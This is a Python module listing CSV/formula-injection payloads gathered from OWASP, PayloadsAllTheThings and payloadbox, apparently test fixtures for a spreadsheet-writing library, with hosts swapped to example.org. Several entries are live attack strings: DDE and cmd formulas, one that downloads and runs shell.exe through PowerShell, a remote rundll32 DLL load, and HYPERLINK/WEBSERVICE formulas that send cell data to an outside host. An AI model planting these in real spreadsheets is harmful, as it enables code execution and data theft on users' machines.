r"""Published texts that a spreadsheet program may run when they stand in a cell.

Sources, all read:
OWASP     "CSV Injection", github.com/OWASP/www-community, pages/attacks/CSV_Injection.md
PAT       "CSV Injection", github.com/swisskyrepo/PayloadsAllTheThings, CSV Injection/README.md
BOX       github.com/payloadbox/csv-injection-payloads, README.md

Addresses in them were changed to example.org; nothing here is ever run.
"""

__all__ = ["PAYLOADS"]

PAYLOADS = (
    # OWASP: a formula, one that breaks out of its field, and each character to beware of
    "=1+2",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "T-1\n=1+2",
    "T-1;=1+2",
    "T-1\t=1+2",
    # PAT
    'DDE ("cmd";"/C calc";"!A0")A0',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    "=cmd|'/C powershell IEX(wget example.org/shell.exe)'!A0",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
    "=         cmd|'/c calc.exe'!A",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
    "=    C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
    '=IMPORTXML("http://example.org/csv", "//a/@href")',
    # BOX
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/c rundll32.exe \\\\example.org\\3\\2\\1.dll,0'!_xlbgnm.A1",
    # Ours: links and places that a writing library may turn into something live
    '=HYPERLINK("http://example.org/?"&A1,"see photo")',
    '=WEBSERVICE("http://example.org/"&A1)',
    "http://example.org/",
    "https://example.org/a b",
    "mailto:nobody@example.org",
    "file:///etc/passwd",
    "ftp://example.org/x",
    "internal:'Sheet'!A1",
    "external:c:\\temp\\x.xlsx",
    "\\\\example.org\\share\\x",
    "{=1+2}",
    "'=1+2",
    "＝1+2",
    "=\u202e1+2",
    "&A &P &F",
    "<script>1</script>",
    "../../x",
)
